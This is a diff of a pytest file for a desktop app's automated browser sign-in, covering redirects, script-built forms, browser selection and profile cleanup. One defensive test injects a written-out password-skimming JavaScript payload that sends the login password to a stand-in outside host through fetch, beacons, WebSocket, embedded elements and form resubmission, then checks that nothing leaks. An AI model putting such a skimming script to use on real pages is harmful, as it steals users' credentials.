@@ -4,13 +4,15 @@ from __future__ import annotations
 
 import asyncio
 from collections.abc import Callable
+from pathlib import Path
 
 import pytest
 
 from idexx_desktop.domain.failures import Failure, FailureCode
 from idexx_desktop.domain.signin import NeoLogin
+from idexx_desktop.neo import browser
+from idexx_desktop.neo.browser import Candidate, candidates
 from idexx_desktop.neo.session import NeoSession
-from idexx_desktop.neo.site import NeoOptions
 from idexx_desktop.simulator.pages import FORMS
 from idexx_desktop.simulator.site import PracticeNeo
 from tests.neo.support import LOGIN, Canned, OddSite, children, form
@@ -115,16 +117,31 @@ def test_a_redirect_that_would_repeat_the_password_elsewhere_is_cut(
 def test_a_script_cannot_carry_the_password_elsewhere(odd_site: OddSite, session_to: Make) -> None:
     thief = (
         "document.forms[0].addEventListener('submit', () => {"
-        f"const to = '{odd_site.elsewhere}/steal?' + document.forms[0].password.value;"
-        "fetch(to, {mode: 'no-cors'}); navigator.sendBeacon(to); new Image().src = to; window.open(to);"
-        "const s = document.createElement('script'); s.src = to; document.head.append(s);"
-        "const f = document.createElement('iframe'); f.src = to; document.body.append(f); });"
+        f"const to = '{odd_site.elsewhere}/steal?' + encodeURIComponent(document.forms[0].password.value);"
+        "fetch(to, {mode: 'no-cors', keepalive: true}); navigator.sendBeacon(to); new Image().src = to;"
+        "window.open(to); new WebSocket(to.replace('http', 'ws'));"
+        "for (const [tag, name] of [['script', 'src'], ['iframe', 'src'], ['img', 'src']]) {"
+        "  const e = document.createElement(tag); e[name] = to; document.body.append(e); }"
+        "const form = document.forms[0].cloneNode(true);"
+        "form.action = to; form.target = '_blank'; document.body.append(form); form.submit(); });"
     )
     odd_site.answers["GET /login"] = form(script=thief)
     odd_site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
     assert odd(odd_site, session_to).code is FailureCode.WRONG_PASSWORD
     assert odd_site.asked_elsewhere() == []
-    assert [what for what, _, _ in odd_site.asked] == ["GET /login", "POST /login"]
+
+
+def test_scripts_of_another_site_may_build_the_form(odd_site: OddSite, session_to: Make) -> None:
+    odd_site.answers["GET /login"] = Canned(
+        f'<body><script src="{odd_site.elsewhere}/lib.js"></script></body>'
+    )
+    odd_site.answers["GET /lib.js"] = Canned(
+        f"document.body.insertAdjacentHTML('beforeend', `{form().text}`)",
+        headers={"Content-Type": "text/javascript"},
+    )
+    odd_site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
+    assert odd(odd_site, session_to).code is FailureCode.WRONG_PASSWORD
+    assert odd_site.asked_elsewhere() == ["GET /lib.js"]
 
 
 def test_a_button_that_sends_the_form_elsewhere_is_noticed(odd_site: OddSite, session_to: Make) -> None:
@@ -138,16 +155,15 @@ def test_a_form_that_is_sent_by_script_shows_its_alert_in_place(odd_site: OddSit
     odd_site.answers["GET /login"] = form(
         alert='<p role="alert">Maintenance on Sunday</p>',
         script="document.forms[0].addEventListener('submit', (e) => { e.preventDefault();"
-        "fetch('/api', {method: 'POST'}).then(() => { document.querySelector('p').innerText = 'Account locked'; }); });",
+        "fetch('/api', {method: 'POST'}).then(() => {"
+        "document.querySelector('p').innerText = 'Account locked'; }); });",
     )
     odd_site.answers["POST /api"] = Canned("{}")
     assert odd(odd_site, session_to).code is FailureCode.LOCKED_OUT
 
 
 def test_a_form_that_is_built_by_script_is_waited_for(odd_site: OddSite, session_to: Make) -> None:
-    build = (
-        f"setTimeout(() => {{ document.body.innerHTML = `{form().text.replace('script>', 'b>')}`; }}, 300)"
-    )
+    build = f"setTimeout(() => {{ document.body.innerHTML = `{form().text}`; }}, 300)"
     odd_site.answers["GET /login"] = Canned(f"<body><script>{build}</script></body>")
     odd_site.answers["POST /login"] = form(alert='<p class="alert-danger">Computer says no</p>')
     assert odd(odd_site, session_to).code is FailureCode.SIGN_IN_REJECTED
@@ -195,20 +211,34 @@ def test_a_page_that_never_comes_to_rest_ends_in_time(odd_site: OddSite, session
     assert odd(odd_site, session_to).code is FailureCode.TOO_SLOW
 
 
-def test_no_browser_is_one_message_that_lists_what_was_tried(
-    session_to: Make, monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory
+def test_the_chosen_browser_is_tried_first_then_those_that_most_have() -> None:
+    names = list(dict.fromkeys(one.name for one in candidates("/opt/own/browser", "/cache/chrome")))
+    assert names[:4] == ["the chosen browser", "Edge", "Chrome", "Playwright's own"]
+    assert list(dict.fromkeys(one.name for one in candidates(None, "/cache/chrome"))) == names[1:]
+
+
+def test_a_sign_in_leaves_no_profile_behind(
+    session_to: Make, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
-    broken = tmp_path_factory.mktemp("browser") / "broken"
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    with PracticeNeo() as site:
+        sign_in(session_to(site.url))
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_no_browser_is_one_message_that_lists_what_was_tried(
+    session_to: Make, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    broken = tmp_path / "broken"
     broken.write_text("#!/bin/sh\nexit 1\n")
     broken.chmod(0o700)
-    monkeypatch.setenv("PATH", str(broken.parent))
+    found = [Candidate("broken one", str(broken)), Candidate("gone", str(tmp_path / "gone"))]
+    monkeypatch.setattr(browser, "candidates", lambda *_: found)
     with PracticeNeo() as site:
-        session = session_to(site.url)
-        chosen = NeoOptions(site.url, session._options.zone, browser_path=str(broken))
-        failure = rejected(NeoSession(chosen, session._clock, session._chance))
+        failure = rejected(session_to(site.url))
         assert site.counts == {}
     assert failure.code is FailureCode.NO_BROWSER
-    assert failure.detail.startswith("the chosen browser: did not start; Edge: not there; Chrome: not there")
+    assert failure.detail == "broken one: did not start; gone: not there"
 
 
 def test_the_names_in_a_login_are_never_printed() -> None:
